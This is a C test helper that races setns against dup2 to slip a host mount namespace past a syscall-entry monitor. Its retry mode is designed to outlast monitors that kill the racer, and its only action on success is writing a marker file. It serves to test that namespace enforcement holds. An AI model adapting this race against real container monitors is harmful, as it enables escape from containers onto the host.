/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * nsw-race: test helper that races setns(2) against dup2(2), the way an
 * attacker who knows that a monitor reads the setns fd at syscall entry
 * would try to pass it a harmless namespace there and a host namespace
 * when the kernel looks the fd up again.
 *
 *   nsw-race <host-ns-path> <own-ns-path> <marker> [attempts [tries]]
 *
 * Both paths name mount namespaces (e.g. /proc/<host pid>/ns/mnt and
 * /proc/self/ns/mnt).  A second task sharing our fd table (clone with
 * CLONE_FILES but not CLONE_FS: setns into a mount namespace needs an fs
 * struct of its own, so it cannot be a thread) loops dup2(host, fd),
 * dup2(own, fd), while this one calls setns(fd, 0) up to `attempts`
 * times (default 5000).  After a setns that landed in the host mount
 * namespace it creates <marker> (resolved there) and exits 0: under
 * enforcement that must never happen.  After one that landed in its own
 * namespace it tries again.
 *
 * Output: "nsw-race: pid=P landed attempt=N" when it got through,
 * "nsw-race: pid=P never landed attempts=N" otherwise.
 * Exit status: 0 landed and marker written, 1 never landed, 2 usage,
 * 3 setup failed.
 *
 * With tries > 1 the above runs in up to `tries` forked processes, one
 * after the other, until one lands.  A monitor that kills at setns entry
 * when it sees the host fd ends a single racer after a couple of attempts,
 * so one racer wins the race before that only now and then; a fresh
 * process per try makes a monitor that does not also kill at exit lose
 * almost surely.  Output: "nsw-race: pid=P landed try=T" (exit 0) or
 * "nsw-race: pid=P tries=T killed=K never=N" (exit 1).
 *
 * Built statically so it can be copied into a busybox container rootfs.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* The dup2 loop of the second task; never returns. */
static void swapper(int host_fd, int own_fd, int fd)
{
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	for (;;) {
		dup2(host_fd, fd);
		dup2(own_fd, fd);
	}
}

/* Inode of the mount namespace this task is in now, 0 if unknown. */
static ino_t current_mnt(void)
{
	struct stat st;

	if (stat("/proc/thread-self/ns/mnt", &st) < 0 &&
	    stat("/proc/self/ns/mnt", &st) < 0)
		return 0;
	return st.st_ino;
}

/*
 * One racer: setns(fd, 0) up to `attempts` times while a task sharing our
 * fd table swaps the host's and our own namespace onto fd.  Returns the
 * exit status described at the top.
 */
static int race(int host_fd, int own_fd, ino_t host_ino, const char *marker,
		long attempts)
{
	long i;
	int fd, mfd;
	pid_t child;

	fd = dup(own_fd);
	if (fd < 0)
		return 3;

	/* fork-like (own copy of the stack), sharing the fd table only */
	child = (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, NULL, NULL,
			       NULL, NULL);
	if (child < 0) {
		fprintf(stderr, "nsw-race: clone: %s\n", strerror(errno));
		return 3;
	}
	if (child == 0)
		swapper(host_fd, own_fd, fd);

	for (i = 1; i <= attempts; i++) {
		if (syscall(SYS_setns, fd, 0) < 0)
			continue;
		if (current_mnt() != host_ino)
			continue;
		/* in the host mount namespace, running our own code */
		mfd = open(marker, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
		if (mfd >= 0)
			close(mfd);
		kill(child, SIGKILL);
		printf("nsw-race: pid=%d landed attempt=%ld\n", (int)getpid(),
		       i);
		return mfd >= 0 ? 0 : 3;
	}
	kill(child, SIGKILL);
	printf("nsw-race: pid=%d never landed attempts=%ld\n", (int)getpid(),
	       attempts);
	return 1;
}

int main(int argc, char **argv)
{
	struct stat hst;
	long attempts = 5000, tries = 1, t, killed = 0, never = 0;
	int host_fd, own_fd, status;
	pid_t p;

	if (argc < 4 || argc > 6) {
		fprintf(stderr, "usage: nsw-race <host-ns-path> <own-ns-path> "
			"<marker> [attempts [tries]]\n");
		return 2;
	}
	if (argc >= 5)
		attempts = strtol(argv[4], NULL, 10);
	if (argc == 6)
		tries = strtol(argv[5], NULL, 10);
	if (attempts <= 0 || tries <= 0)
		return 2;
	host_fd = open(argv[1], O_RDONLY | O_CLOEXEC);
	own_fd = open(argv[2], O_RDONLY | O_CLOEXEC);
	if (host_fd < 0 || own_fd < 0 || fstat(host_fd, &hst) < 0) {
		fprintf(stderr, "nsw-race: open: %s\n", strerror(errno));
		return 3;
	}
	setvbuf(stdout, NULL, _IONBF, 0);
	if (tries == 1)
		return race(host_fd, own_fd, hst.st_ino, argv[3], attempts);

	for (t = 1; t <= tries; t++) {
		p = fork();
		if (p < 0) {
			fprintf(stderr, "nsw-race: fork: %s\n", strerror(errno));
			return 3;
		}
		if (p == 0)
			_exit(race(host_fd, own_fd, hst.st_ino, argv[3],
				   attempts));
		if (waitpid(p, &status, 0) < 0)
			return 3;
		if (WIFEXITED(status) && WEXITSTATUS(status) == 0) {
			printf("nsw-race: pid=%d landed try=%ld\n",
			       (int)getpid(), t);
			return 0;
		}
		if (WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL)
			killed++;
		else if (WIFEXITED(status) && WEXITSTATUS(status) == 1)
			never++;
		else
			return 3;
	}
	printf("nsw-race: pid=%d tries=%ld killed=%ld never=%ld\n",
	       (int)getpid(), tries, killed, never);
	return 1;
}
